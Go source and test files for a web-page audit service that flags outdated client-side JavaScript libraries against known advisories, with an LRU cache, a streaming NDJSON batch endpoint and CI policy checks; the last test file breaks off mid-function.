	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Library != "jquery" || len(resp.Advisories) == 0 {
		t.Fatalf("vulns response wrong: %+v", resp)
	}
	seen := map[string]vulnEntry{}
	for _, a := range resp.Advisories {
		seen[a.ID] = a
	}
	// CVE-2020-7656's disclosed range was PoC-validated as understated.
	if a, ok := seen["CVE-2020-7656"]; !ok || a.Accuracy != "understated" {
		t.Errorf("CVE-2020-7656 entry wrong: %+v", a)
	}

	rec404 := httptest.NewRecorder()
	s.ServeHTTP(rec404, httptest.NewRequest(http.MethodGet, "/v1/vulns/not-a-library", nil))
	if rec404.Code != http.StatusNotFound {
		t.Errorf("unknown library status = %d, want 404", rec404.Code)
	}
}

func TestHealthz(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/healthz", nil))
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), `"status":"ok"`) {
		t.Fatalf("healthz = %d %s", rec.Code, rec.Body)
	}
}

func TestMetricsEndpointReconciles(t *testing.T) {
	s := newTestServer(t, Config{})
	for i := 0; i < 3; i++ {
		postAudit(s, vulnerablePage, "") // 1 miss + 2 hits
	}
	postAudit(s, "{", "application/json") // 400
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/metrics", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("metrics status = %d", rec.Code)
	}
	txt := rec.Body.String()
	for _, want := range []string{
		`clientres_http_requests_total{endpoint="audit"} 4`,
		`clientres_http_responses_total{endpoint="audit",code="2xx"} 3`,
		`clientres_http_responses_total{endpoint="audit",code="4xx"} 1`,
		`clientres_audit_cache_hits_total 2`,
		`clientres_audit_cache_misses_total 1`,
		`clientres_audit_cache_evictions_total 0`,
		`clientres_audit_shed_total{reason="queue_full"} 0`,
		`clientres_audit_shed_total{reason="rate_limited"} 0`,
		`clientres_http_request_duration_seconds_count{endpoint="audit"} 4`,
	} {
		if !strings.Contains(txt, want) {
			t.Errorf("metrics output missing %q\n%s", want, txt)
		}
	}
}
