package service

import (
	"bytes"
	"fmt"
	"math/rand"
	"net/http"
	"sync"
	"testing"
)

func TestLRUEviction(t *testing.T) {
	c := newLRUCache(2)
	k := func(i int) cacheKey { return cacheKey{hash: uint64(i), n: i, host: "h"} }
	if ev := c.add(k(1), []byte("a")); ev != 0 {
		t.Fatalf("evicted %d from empty cache", ev)
	}
	c.add(k(2), []byte("b"))
	if _, ok := c.get(k(1)); !ok {
		t.Fatal("entry 1 missing before capacity reached")
	}
	// Entry 1 is now most recent; inserting 3 must evict 2.
	if ev := c.add(k(3), []byte("c")); ev != 1 {
		t.Fatalf("evicted %d, want 1", ev)
	}
	if _, ok := c.get(k(2)); ok {
		t.Fatal("LRU entry 2 survived eviction")
	}
	if _, ok := c.get(k(1)); !ok {
		t.Fatal("recently-used entry 1 evicted")
	}
	if c.len() != 2 {
		t.Fatalf("len = %d, want 2", c.len())
	}
	// Re-adding an existing key updates in place, no eviction.
	if ev := c.add(k(1), []byte("a2")); ev != 0 {
		t.Fatalf("update evicted %d", ev)
	}
	if b, _ := c.get(k(1)); string(b) != "a2" {
		t.Fatalf("update lost: %q", b)
	}
}

// TestConcurrentAuditCacheCorrectness is the satellite race test: many
// goroutines hammer POST /v1/audit with overlapping page bodies; every
// response for the same input must be byte-identical, and the cache
// counters must reconcile exactly with the request count. Run under -race
// (scripts/check.sh does).
func TestConcurrentAuditCacheCorrectness(t *testing.T) {
	const (
		goroutines = 8
		perG       = 50
		pages      = 6
	)
	// QueueDepth covers every request at once so nothing sheds and the
	// reconciliation below is exact.
	s := newTestServer(t, Config{Workers: 4, QueueDepth: goroutines * perG, CacheEntries: 1024})

	page := func(i int) string {
		return fmt.Sprintf(`<html><head>
<script src="https://code.jquery.com/jquery-1.%d.4.min.js"></script>
<script src="/assets/v%d/moment-2.10.6.min.js"></script>
</head></html>`, 8+i, i)
	}

	// One canonical response per page, computed single-threaded first.
	want := make([][]byte, pages)
	for i := 0; i < pages; i++ {
		rec := postAudit(s, page(i), "")
		if rec.Code != http.StatusOK {
			t.Fatalf("seed audit %d status %d", i, rec.Code)
		}
		want[i] = append([]byte(nil), rec.Body.Bytes()...)
	}

	var wg sync.WaitGroup
	errs := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(int64(g)))
			for i := 0; i < perG; i++ {
				p := rng.Intn(pages)
				rec := postAudit(s, page(p), "")
				if rec.Code != http.StatusOK {
					errs <- fmt.Errorf("goroutine %d: status %d", g, rec.Code)
					return
				}
				if !bytes.Equal(rec.Body.Bytes(), want[p]) {
					errs <- fmt.Errorf("goroutine %d: page %d response diverged", g, p)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	total := int64(pages + goroutines*perG)
	em := s.met.endpoint("audit")
	if em.total.Load() != total {
		t.Fatalf("request counter = %d, want %d", em.total.Load(), total)
	}
	hits, misses := s.met.cacheHits.Load(), s.met.cacheMisses.Load()
	if hits+misses != total {
		t.Fatalf("hits(%d)+misses(%d) != requests(%d)", hits, misses, total)
	}
	// Every page was seeded once, so exactly `pages` misses and no sheds.
	if misses != pages {
		t.Fatalf("misses = %d, want %d", misses, pages)
	}
	if s.met.shedQueue.Load() != 0 || s.met.shedRate.Load() != 0 {
		t.Fatalf("unexpected sheds: queue=%d rate=%d", s.met.shedQueue.Load(), s.met.shedRate.Load())
	}
	if got := s.cache.len(); got != pages {
		t.Fatalf("cache entries = %d, want %d", got, pages)
	}
	if s.met.cacheEvictions.Load() != 0 {
		t.Fatalf("evictions = %d, want 0", s.met.cacheEvictions.Load())
	}
}

// TestConcurrentAuditCacheDisabled runs the same hammer with the cache off:
// every request takes the full audit path and responses must still be
// byte-identical for identical input (JSON marshaling of a deterministic
// audit), proving determinism does not lean on the cache.
func TestConcurrentAuditCacheDisabled(t *testing.T) {
	const goroutines, perG = 4, 25
	s := newTestServer(t, Config{Workers: 4, QueueDepth: goroutines * perG, CacheEntries: -1})
	body := `<script src="https://code.jquery.com/jquery-1.12.4.min.js"></script>`
	ref := postAudit(s, body, "")
	if ref.Code != http.StatusOK {
		t.Fatalf("seed status %d", ref.Code)
	}
	var wg sync.WaitGroup
	errs := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				rec := postAudit(s, body, "")
				if rec.Code != http.StatusOK || !bytes.Equal(rec.Body.Bytes(), ref.Body.Bytes()) {
					errs <- fmt.Errorf("goroutine %d request %d diverged (status %d)", g, i, rec.Code)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if hits := s.met.cacheHits.Load(); hits != 0 {
		t.Fatalf("cache disabled but %d hits", hits)
	}
}
