package service

import (
	"clientres/internal/vulndb"
)

// libraryEntries renders the advisory database's library catalog in the
// paper's Table 1 order. The result is deterministic, so GET /v1/libraries
// responses are byte-stable across requests and restarts.
func libraryEntries() []libraryEntry {
	libs := vulndb.Libraries()
	out := make([]libraryEntry, 0, len(libs))
	for _, l := range libs {
		e := libraryEntry{
			Slug: l.Slug, Name: l.Name,
			Discontinued: l.Discontinued, Successor: l.Successor,
			Advisories: len(vulndb.AdvisoriesFor(l.Slug)),
		}
		if c, ok := vulndb.CatalogFor(l.Slug); ok {
			e.Releases = len(c.Releases)
			if latest := c.Latest(); !latest.Version.IsZero() {
				e.Latest = latest.Version.String()
				e.LatestDate = latest.Date.Format("2006-01-02")
			}
		}
		out = append(out, e)
	}
	return out
}

// vulnEntries renders the advisories for one library slug; ok is false
// when the slug names neither a known library nor any advisory.
func vulnEntries(slug string) ([]vulnEntry, bool) {
	_, known := vulndb.LibraryBySlug(slug)
	advs := vulndb.AdvisoriesFor(slug)
	if !known && len(advs) == 0 {
		return nil, false
	}
	catalog, hasCatalog := vulndb.CatalogFor(slug)
	out := make([]vulnEntry, 0, len(advs))
	for _, a := range advs {
		e := vulnEntry{
			ID: a.ID, Attack: string(a.Attack), Severity: a.Attack.Severity(),
			CVERange:  a.CVERange.String(),
			TrueRange: a.EffectiveTrueRange().String(),
			Accuracy:  vulndb.Unvalidated.String(),
			Disclosed: a.Disclosed.Format("2006-01-02"),
			HasPoC:    a.HasPoC, Conditional: a.Conditional,
		}
		if hasCatalog {
			e.Accuracy = a.ClassifyAccuracy(catalog).String()
		}
		if !a.Patched.IsZero() {
			e.Patched = a.Patched.String()
		}
		if !a.PatchDate.IsZero() {
			e.PatchDate = a.PatchDate.Format("2006-01-02")
		}
		out = append(out, e)
	}
	return out, true
}
