package service

// The NDJSON batch protocol: POST /v1/audit/batch streams audit records
// in and verdicts out with bounded memory, which is what fleet clients
// (CI farms auditing thousands of pages) need instead of one HTTP round
// trip per page.
//
// Request body: one JSON record per line. An optional first control line
// `{"policy": …}` selects a policy for the whole stream (same forms as
// the single-audit "policy" member); every following line is
// `{"html": …, "host": …}`. URL records are rejected per-record — batch
// is for content the client already holds.
//
// Response body: one JSON line per record, in input order —
// `{"index":i,"audit":{…}}` (plus `"policy":{…}` when a policy is
// active) or `{"index":i,"error":"…"}` — then one terminal line
// `{"summary":{…}}` reconciling records/completed/errors/shed exactly.
// Lines are flushed as they complete, so a slow consumer sees results
// incrementally, not buffered to completion.
//
// Memory is bounded by a fixed in-flight window: each admitted record
// holds one worker-queue slot and one buffered reply until its line is
// written. When the shared queue is full the record sheds through the
// same accounting as the single-audit 503 path, as a per-record error
// line (the stream's status code is already on the wire).
//
// RunBatch is the same record loop with the worker pool replaced by an
// inline audit — cmd/analyze -batch runs it offline, and the equivalence
// test proves both paths emit byte-identical lines for the same inputs.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"time"

	"clientres/internal/policy"
)

// batchRecord is one NDJSON input line.
type batchRecord struct {
	HTML   string          `json:"html,omitempty"`
	Host   string          `json:"host,omitempty"`
	URL    string          `json:"url,omitempty"`
	Policy json.RawMessage `json:"policy,omitempty"`
}

// BatchSummary is the terminal NDJSON line of a batch response: an exact
// reconciliation of every input record. Records = Completed + Errors;
// Shed counts the Errors that were queue-full sheds; Overall is the
// worst per-record policy verdict ("" without a policy).
type BatchSummary struct {
	Records   int    `json:"records"`
	Completed int    `json:"completed"`
	Errors    int    `json:"errors"`
	Shed      int    `json:"shed"`
	Overall   string `json:"overall,omitempty"`
}

// maxBatchLine caps one NDJSON record (JSON framing included); it tracks
// the single-audit body cap so batch cannot smuggle bigger pages.
func (s *Server) maxBatchLine() int {
	n := int(s.cfg.MaxBodyBytes)
	return n + n/4 + 4096 // room for JSON string escaping and framing
}

// evalPolicy evaluates pol against one serialized audit response as of
// now, returning the verdict and its canonical JSON. Every path — online
// single, online batch, offline RunBatch — funnels through here, which is
// what makes verdicts byte-identical across them.
func evalPolicy(pol *policy.Policy, auditJSON []byte, now time.Time) ([]byte, policy.Verdict, error) {
	var resp AuditResponse
	if err := json.Unmarshal(auditJSON, &resp); err != nil {
		return nil, policy.Verdict{}, err
	}
	v := pol.Eval(resp.PolicyDoc(now))
	b, err := json.Marshal(v)
	return b, v, err
}

// policyEnvelope splices untouched audit JSON and verdict JSON into
// {"audit":…,"policy":…}\n. The audit bytes stay verbatim — they may have
// been replayed from the cache, and cold vs cached responses must remain
// byte-identical.
func policyEnvelope(auditJSON, verdictJSON []byte) []byte {
	audit := bytes.TrimRight(auditJSON, "\n")
	buf := make([]byte, 0, len(audit)+len(verdictJSON)+24)
	buf = append(buf, `{"audit":`...)
	buf = append(buf, audit...)
	buf = append(buf, `,"policy":`...)
	buf = append(buf, verdictJSON...)
	buf = append(buf, '}', '\n')
	return buf
}

// formatBatchLine renders record i's success line.
func formatBatchLine(i int, auditJSON, verdictJSON []byte) []byte {
	audit := bytes.TrimRight(auditJSON, "\n")
	buf := make([]byte, 0, len(audit)+len(verdictJSON)+48)
	buf = append(buf, `{"index":`...)
	buf = strconv.AppendInt(buf, int64(i), 10)
	buf = append(buf, `,"audit":`...)
	buf = append(buf, audit...)
	if verdictJSON != nil {
		buf = append(buf, `,"policy":`...)
		buf = append(buf, verdictJSON...)
	}
	buf = append(buf, '}', '\n')
	return buf
}

// formatBatchError renders record i's error line.
func formatBatchError(i int, msg string, shed bool) []byte {
	m, _ := json.Marshal(msg)
	buf := make([]byte, 0, len(m)+48)
	buf = append(buf, `{"index":`...)
	buf = strconv.AppendInt(buf, int64(i), 10)
	buf = append(buf, `,"error":`...)
	buf = append(buf, m...)
	if shed {
		buf = append(buf, `,"shed":true`...)
	}
	buf = append(buf, '}', '\n')
	return buf
}

func formatBatchSummary(sum BatchSummary) []byte {
	b, _ := json.Marshal(struct {
		Summary BatchSummary `json:"summary"`
	}{sum})
	return append(b, '\n')
}

// validateBatchRecord maps one parsed record to an error message, or "".
func validateBatchRecord(rec *batchRecord) string {
	switch {
	case rec.URL != "":
		return "url records are not supported in batch audits"
	case rec.HTML == "":
		return `"html" is required`
	default:
		return ""
	}
}

// worseVerdict folds per-record overall verdicts into a stream verdict.
func worseVerdict(acc, v string) string {
	rank := map[string]int{"": 0, "pass": 1, "warn": 2, "fail": 3}
	if rank[v] > rank[acc] {
		return v
	}
	return acc
}

// pendingRecord is one admitted batch record whose line has not been
// written yet: either an already-resolved body (cache hit, error) or a
// job whose reply is still owed.
type pendingRecord struct {
	index int
	ready []byte    // non-nil: emit as-is
	job   *auditJob // else: wait on job.reply
	resp  []byte    // job reply already collected by the streaming select
	key   cacheKey
	now   time.Time
	miss  bool // a completed job should be banked in the cache
	errLn bool // ready is an error line, not an audit
}

func (s *Server) handleAuditBatch(w http.ResponseWriter, r *http.Request) {
	if s.limiter != nil {
		// One token admits the stream; records inside it are governed by
		// queue backpressure, not the per-request bucket (a 10k-record
		// batch is one client action, not 10k).
		if retry, ok := s.limiter.allow(clientKey(r)); !ok {
			s.met.shedRate.Inc()
			w.Header().Set("Retry-After", retryAfterSeconds(retry))
			http.Error(w, "rate limit exceeded", http.StatusTooManyRequests)
			return
		}
	}
	pol, isServerPol, err := s.resolvePolicy(nil, r.URL.Query().Get("policy"))
	if err != nil {
		http.Error(w, "bad policy: "+err.Error(), http.StatusBadRequest)
		return
	}

	s.met.batchStreams.Inc()
	s.met.batchActive.Inc()
	defer s.met.batchActive.Add(-1)

	// NDJSON batch is a full-duplex exchange: result lines go out while
	// the client is still sending records. HTTP/1.x handlers are
	// half-duplex by default — the first response write blocks to consume
	// the rest of the request body, deadlocking against a client that
	// waits for results before sending more. The error is ignorable:
	// writers that don't support the controller (test recorders) have no
	// duplex problem to begin with.
	_ = http.NewResponseController(w).EnableFullDuplex()

	w.Header().Set("Content-Type", "application/x-ndjson")
	flush := func() {
		if f, ok := w.(http.Flusher); ok {
			f.Flush()
		}
	}

	// Input lines arrive through a reader goroutine so the record loop can
	// select between "next input line" and "front-of-window audit done".
	// That select is what makes output genuinely record-by-record: a
	// completed audit streams out even while the client is still composing
	// its next record, instead of buffering until the window fills or the
	// body ends.
	sc := bufio.NewScanner(r.Body)
	sc.Buffer(make([]byte, 64<<10), s.maxBatchLine())
	lines := make(chan []byte)
	scanErr := make(chan error, 1)
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		defer close(lines)
		for sc.Scan() {
			line := bytes.TrimSpace(sc.Bytes())
			if len(line) == 0 {
				continue
			}
			cp := append([]byte(nil), line...) // the Scanner reuses its buffer
			select {
			case lines <- cp:
			case <-stop:
				return
			}
		}
		scanErr <- sc.Err()
	}()

	// The in-flight window: admitted records not yet written. Its length
	// bounds both queue slots this stream holds and buffered replies in
	// memory; emission order is input order regardless of completion
	// order.
	window := make([]*pendingRecord, 0, s.batchWindow())
	var sum BatchSummary

	emit := func(p *pendingRecord) bool {
		line := p.ready
		if line == nil {
			resp := p.resp
			if resp == nil {
				resp = <-p.job.reply
			}
			if p.miss {
				s.cacheStore(p.key, resp)
				s.met.cacheMisses.Inc()
			}
			var verdictJSON []byte
			if pol != nil {
				vj, v, err := evalPolicy(pol, resp, p.now)
				if err != nil {
					line = formatBatchError(p.index, "policy evaluation failed", false)
					sum.Errors++
					s.met.batchErrors.Inc()
				} else {
					s.observeVerdict(v, isServerPol)
					sum.Overall = worseVerdict(sum.Overall, v.Overall)
					verdictJSON = vj
				}
			}
			if line == nil {
				line = formatBatchLine(p.index, resp, verdictJSON)
				sum.Completed++
				s.met.batchCompleted.Inc()
			}
		}
		if _, err := w.Write(line); err != nil {
			return false
		}
		flush()
		return true
	}
	drainOne := func() bool {
		p := window[0]
		window = window[1:]
		return emit(p)
	}

	index := 0
	clientGone := false
	inputOpen := true
	for inputOpen || len(window) > 0 {
		// Stream out every front-of-window record whose result is in hand.
		for len(window) > 0 && !clientGone {
			if p0 := window[0]; p0.ready == nil && p0.resp == nil {
				break
			}
			if !drainOne() {
				clientGone = true
			}
		}
		if clientGone {
			break
		}
		if !inputOpen && len(window) == 0 {
			break
		}

		// Wait for whichever happens first: the front job completing (its
		// line can go out) or the next input line (more work to admit).
		// A nil channel blocks forever, which is how each case is disabled.
		var frontReply chan []byte
		if len(window) > 0 {
			frontReply = window[0].job.reply
		}
		in := lines
		if !inputOpen || len(window) >= s.batchWindow() {
			in = nil
		}
		var line []byte
		select {
		case resp := <-frontReply:
			window[0].resp = resp
			continue
		case l, ok := <-in:
			if !ok {
				inputOpen = false
				continue
			}
			line = l
		}

		var rec batchRecord
		perr := json.Unmarshal(line, &rec)

		// An optional leading control line sets the stream policy.
		if index == 0 && perr == nil && len(rec.Policy) > 0 && rec.HTML == "" && rec.URL == "" {
			pol, isServerPol, err = s.resolvePolicy(rec.Policy, "")
			if err != nil {
				// The stream cannot proceed without the policy it asked
				// for; report and stop before any record line.
				_, _ = w.Write(formatBatchError(0, "bad policy: "+err.Error(), false))
				flush()
				return
			}
			continue
		}

		p := &pendingRecord{index: index}
		switch {
		case perr != nil:
			p.ready = formatBatchError(index, "invalid JSON record", false)
			p.errLn = true
		default:
			if msg := validateBatchRecord(&rec); msg != "" {
				p.ready = formatBatchError(index, msg, false)
				p.errLn = true
			}
		}
		index++
		sum.Records++
		s.met.batchRecords.Inc()

		if p.ready == nil {
			host := rec.Host
			if host == "" {
				host = "audit.local"
			}
			now := s.cfg.Now()
			key := cacheKey{hash: fnv1a64(rec.HTML), n: len(rec.HTML), host: host}
			if s.cache != nil {
				if cached, ok := s.cache.get(key); ok {
					s.met.cacheHits.Inc()
					if pol != nil {
						vj, v, err := evalPolicy(pol, cached, now)
						if err != nil {
							p.ready = formatBatchError(p.index, "policy evaluation failed", false)
							p.errLn = true
						} else {
							s.observeVerdict(v, isServerPol)
							sum.Overall = worseVerdict(sum.Overall, v.Overall)
							p.ready = formatBatchLine(p.index, cached, vj)
						}
					} else {
						p.ready = formatBatchLine(p.index, cached, nil)
					}
					if !p.errLn {
						sum.Completed++
						s.met.batchCompleted.Inc()
					}
				}
			}
			if p.ready == nil {
				job := &auditJob{html: rec.HTML, host: host, now: now, reply: make(chan []byte, 1)}
				// Backpressure: make room in our own window first, then
				// shed through the same accounting as the single-audit
				// 503 path if the shared queue is still full.
				submitted := s.submit(job)
				for !submitted && len(window) > 0 {
					if !drainOne() {
						clientGone = true
						break
					}
					submitted = s.submit(job)
				}
				if clientGone {
					break
				}
				if submitted {
					p.job, p.key, p.now, p.miss = job, key, now, s.cache != nil
				} else {
					s.met.shedQueue.Inc()
					s.met.batchShedRecords.Inc()
					p.ready = formatBatchError(p.index, "audit queue full", true)
					p.errLn = true
				}
			}
		}
		if p.errLn {
			sum.Errors++
			s.met.batchErrors.Inc()
			if bytes.Contains(p.ready, []byte(`"shed":true`)) {
				sum.Shed++
			}
		}
		window = append(window, p)
	}

	// Drain whatever is still in flight, then reconcile. Even on a
	// mid-stream client disconnect the admitted jobs must be consumed so
	// their buffered replies are banked in the cache, not leaked.
	for len(window) > 0 {
		p := window[0]
		window = window[1:]
		if clientGone && p.job != nil {
			resp := p.resp
			if resp == nil {
				resp = <-p.job.reply
			}
			if p.miss {
				s.cacheStore(p.key, resp)
				s.met.cacheMisses.Inc()
			}
			continue
		}
		if !emit(p) {
			clientGone = true
		}
	}
	if clientGone {
		return
	}
	if err := <-scanErr; err != nil {
		msg := "error reading batch body"
		if errors.Is(err, bufio.ErrTooLong) {
			msg = fmt.Sprintf("batch record exceeds %d bytes", s.maxBatchLine())
		}
		_, _ = w.Write(formatBatchError(index, msg, false))
		flush()
		return
	}
	_, _ = w.Write(formatBatchSummary(sum))
	flush()
}

// batchWindow bounds in-flight records per stream: enough to keep the
// worker pool busy, small enough that one stream cannot monopolize the
// shared queue.
func (s *Server) batchWindow() int {
	n := s.cfg.Workers * 2
	if n > s.cfg.QueueDepth {
		n = s.cfg.QueueDepth
	}
	if n < 1 {
		n = 1
	}
	if n > 32 {
		n = 32
	}
	return n
}

// RunBatch is the offline batch path: the same NDJSON record loop as
// POST /v1/audit/batch with the worker pool replaced by an inline audit —
// no server, no network. pol may be nil (audits only); a leading
// {"policy": …} control line overrides it, with inline forms only (there
// is no server to name). The emitted lines are byte-identical to what the
// online batch endpoint streams for the same records, policy, and clock;
// cmd/analyze -batch is this function behind flags.
func RunBatch(r io.Reader, w io.Writer, pol *policy.Policy, now time.Time, maxRecordBytes int) (BatchSummary, error) {
	var sum BatchSummary
	if maxRecordBytes <= 0 {
		maxRecordBytes = (2 << 20) + (2<<20)/4 + 4096 // mirror the server default
	}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64<<10), maxRecordBytes)
	bw := bufio.NewWriter(w)
	defer bw.Flush()
	index := 0
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		var rec batchRecord
		perr := json.Unmarshal(line, &rec)
		if index == 0 && perr == nil && len(rec.Policy) > 0 && rec.HTML == "" && rec.URL == "" {
			p, err := compileInlinePolicy(rec.Policy)
			if err != nil {
				_, _ = bw.Write(formatBatchError(0, "bad policy: "+err.Error(), false))
				return sum, fmt.Errorf("batch: %v", err)
			}
			pol = p
			continue
		}
		var out []byte
		isErr := false
		switch {
		case perr != nil:
			out = formatBatchError(index, "invalid JSON record", false)
			isErr = true
		default:
			if msg := validateBatchRecord(&rec); msg != "" {
				out = formatBatchError(index, msg, false)
				isErr = true
			}
		}
		sum.Records++
		if out == nil {
			host := rec.Host
			if host == "" {
				host = "audit.local"
			}
			resp := Audit(rec.HTML, host, now)
			auditJSON, err := json.Marshal(resp)
			if err != nil {
				auditJSON = []byte("{}")
			}
			auditJSON = append(auditJSON, '\n')
			var verdictJSON []byte
			if pol != nil {
				vj, v, err := evalPolicy(pol, auditJSON, now)
				if err != nil {
					out = formatBatchError(index, "policy evaluation failed", false)
					isErr = true
				} else {
					sum.Overall = worseVerdict(sum.Overall, v.Overall)
					verdictJSON = vj
				}
			}
			if out == nil {
				out = formatBatchLine(index, auditJSON, verdictJSON)
				sum.Completed++
			}
		}
		if isErr {
			sum.Errors++
		}
		if _, err := bw.Write(out); err != nil {
			return sum, err
		}
		index++
	}
	if err := sc.Err(); err != nil {
		msg := "error reading batch body"
		if errors.Is(err, bufio.ErrTooLong) {
			msg = fmt.Sprintf("batch record exceeds %d bytes", maxRecordBytes)
		}
		_, _ = bw.Write(formatBatchError(index, msg, false))
		return sum, err
	}
	_, _ = bw.Write(formatBatchSummary(sum))
	return sum, nil
}

// compileInlinePolicy handles the control-line policy forms that make
// sense offline: an inline object or a source string (the "server"
// selector needs a server).
func compileInlinePolicy(raw json.RawMessage) (*policy.Policy, error) {
	if len(raw) > policy.MaxSourceBytes {
		return nil, fmt.Errorf("inline policy larger than %d bytes", policy.MaxSourceBytes)
	}
	var src string
	if json.Unmarshal(raw, &src) == nil {
		if src == "server" || src == "default" {
			return nil, fmt.Errorf("policy %q requires a server; pass the policy inline", src)
		}
		return policy.Compile([]byte(src))
	}
	return policy.Compile(raw)
}
