package service

import (
	"container/list"
	"sync"
)

// cacheKey identifies a (page content, serving host) pair, the same FNV-1a
// content-hash keying philosophy as fingerprint.Memo: the hash plus the
// length make accidental collisions negligible, and the host participates
// because internal/external classification (and so the audit verdict)
// depends on it.
type cacheKey struct {
	hash uint64
	n    int
	host string
}

// lruCache is a mutex-guarded LRU over serialized audit responses. Unlike
// fingerprint.Memo (single-shard, epoch-evicting) the service cache is hit
// from every handler goroutine at once and must bound memory smoothly under
// a shifting working set, so it pays for a real recency list.
type lruCache struct {
	mu  sync.Mutex
	cap int
	ll  *list.List // front = most recently used
	m   map[cacheKey]*list.Element
}

type cacheEntry struct {
	key  cacheKey
	body []byte
}

// newLRUCache builds a cache holding at most capacity responses.
func newLRUCache(capacity int) *lruCache {
	return &lruCache{cap: capacity, ll: list.New(), m: make(map[cacheKey]*list.Element, capacity)}
}

// get returns the cached response body for key, refreshing its recency.
// The returned slice is shared — callers must not mutate it.
func (c *lruCache) get(key cacheKey) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.m[key]
	if !ok {
		return nil, false
	}
	c.ll.MoveToFront(el)
	return el.Value.(*cacheEntry).body, true
}

// add stores a response body under key and returns how many entries were
// evicted to stay within capacity (0 or 1; 0 also when key already existed
// — concurrent identical-input audits both store the same bytes).
func (c *lruCache) add(key cacheKey, body []byte) (evicted int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.m[key]; ok {
		c.ll.MoveToFront(el)
		el.Value.(*cacheEntry).body = body
		return 0
	}
	c.m[key] = c.ll.PushFront(&cacheEntry{key: key, body: body})
	for c.ll.Len() > c.cap {
		back := c.ll.Back()
		c.ll.Remove(back)
		delete(c.m, back.Value.(*cacheEntry).key)
		evicted++
	}
	return evicted
}

// len returns the current entry count.
func (c *lruCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ll.Len()
}

// fnv1a64 is FNV-1a over a string, inlined to avoid the hash/fnv
// allocation and string→[]byte copy on the per-request hot path (the same
// trade fingerprint.Memo makes).
func fnv1a64(s string) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime64
	}
	return h
}
