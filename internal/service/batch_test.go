package service

// Tests for the policy wiring over HTTP, the NDJSON batch endpoint, and
// the online/batch/offline verdict equivalence guarantee.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"clientres/internal/policy"
)

// gateYAML is the issue's motivating CI gate: against vulnerablePage at
// the fixed audit clock, stale-high matches the long-public jQuery XSS
// advisories and missing-sri matches both CDN includes → overall fail.
const gateYAML = `name: gate
rules:
  - name: stale-high
    scope: finding
    when: severity == "high" && age(disclosed) > 90d
  - name: missing-sri
    when: missing_sri > 0
  - name: discontinued
    level: warn
    scope: library
    when: discontinued
`

// policyEnvelopeBody is the {"audit":…,"policy":…} response shape.
type policyEnvelopeBody struct {
	Audit  json.RawMessage `json:"audit"`
	Policy policy.Verdict  `json:"policy"`
}

func TestAuditWithInlinePolicy(t *testing.T) {
	s := newTestServer(t, Config{})
	plain := postAudit(s, vulnerablePage, "")
	if plain.Code != 200 {
		t.Fatalf("plain audit status = %d", plain.Code)
	}

	body, _ := json.Marshal(auditRequest{
		HTML: vulnerablePage, Host: "example.com",
		Policy: mustJSON(t, gateYAML),
	})
	rec := postAudit(s, string(body), "application/json")
	if rec.Code != 200 {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	if got := rec.Header().Get("X-Policy-Verdict"); got != "fail" {
		t.Errorf("X-Policy-Verdict = %q, want fail", got)
	}
	var env policyEnvelopeBody
	if err := json.Unmarshal(rec.Body.Bytes(), &env); err != nil {
		t.Fatalf("envelope not JSON: %v\n%s", err, rec.Body)
	}
	// The audit member must be the plain response verbatim — the envelope
	// splices cached bytes untouched.
	if !bytes.Equal(env.Audit, bytes.TrimRight(plain.Body.Bytes(), "\n")) {
		t.Error("audit member differs from the plain audit response")
	}
	if env.Policy.Overall != "fail" || len(env.Policy.Rules) != 3 {
		t.Fatalf("verdict = %+v", env.Policy)
	}
	byName := map[string]policy.RuleVerdict{}
	for _, rv := range env.Policy.Rules {
		byName[rv.Rule] = rv
	}
	if rv := byName["stale-high"]; rv.Outcome != "fail" || rv.Matched == 0 {
		t.Errorf("stale-high = %+v", rv)
	}
	if rv := byName["missing-sri"]; rv.Outcome != "fail" {
		t.Errorf("missing-sri = %+v", rv)
	}
	if rv := byName["discontinued"]; rv.Outcome != "pass" {
		t.Errorf("discontinued = %+v", rv)
	}
	if s.met.policyFail.Load() != 1 {
		t.Errorf("policyFail = %d, want 1", s.met.policyFail.Load())
	}
	// Inline policies must not feed per-rule series (none exist here).
	if len(s.met.policyRules) != 0 {
		t.Errorf("policyRules registered for inline policy: %d", len(s.met.policyRules))
	}
}

func TestAuditWithServerPolicy(t *testing.T) {
	pol, err := policy.Compile([]byte(gateYAML))
	if err != nil {
		t.Fatal(err)
	}
	s := newTestServer(t, Config{Policy: pol})

	// Raw-HTML POSTs opt in via the query toggle.
	req := httptest.NewRequest(http.MethodPost, "/v1/audit?host=example.com&policy=server", strings.NewReader(vulnerablePage))
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	if rec.Code != 200 {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	var env policyEnvelopeBody
